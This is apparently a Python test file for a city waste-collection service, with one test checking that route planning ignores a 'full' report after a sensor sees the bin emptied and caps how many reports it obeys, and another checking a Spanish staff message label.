def test_a_plan_ignores_a_report_the_sensor_saw_emptied_and_caps_how_many_reports_it_obeys(settings):
    fleet()
    day = timezone.localdate() + timedelta(days=1)
    end = timezone.make_aware(datetime.combine(day, time(5)))
    emptied, low = BinFactory(ref="EMPTIED"), [BinFactory(ref=f"LOW-{i}") for i in range(3)]
    for b in (emptied, *low):
        history(b, timezone.now() - timedelta(hours=1), 2, lambda t: 0.05, start_fill=5, empty_at=10_000)
        services.report_bin(b.ref, "full")
    # The sensor then sees the reported bin emptied (a fall), the others stay low as before.
    for b in low:
        history(b, end, 0, lambda t: 0.0, start_fill=8)
    history(emptied, timezone.now() - timedelta(minutes=59), 0, lambda t: 0.0, start_fill=40)
    history(emptied, end, 0, lambda t: 0.0, start_fill=0)
    for i, b in enumerate(low):  # most reported first
        for _ in range(i):
            services.report_bin(b.ref, "full")
    settings.CITYOS_WASTE_REPORT_MUST_MAX = "2"
    plan = services.build_plan(day, seconds=0.3, now=end)
    required = set(Stop.objects.filter(route__plan=plan, required=True).values_list("bin__ref", flat=True))
    assert required == {"LOW-2", "LOW-1"}


def test_staff_see_the_collected_text_named_in_their_language():
    with translation.override("es"):
        assert registry.message_label(services.TEMPLATE_REPORT_COLLECTED) == "Contenedor vaciado: aviso al vecino"
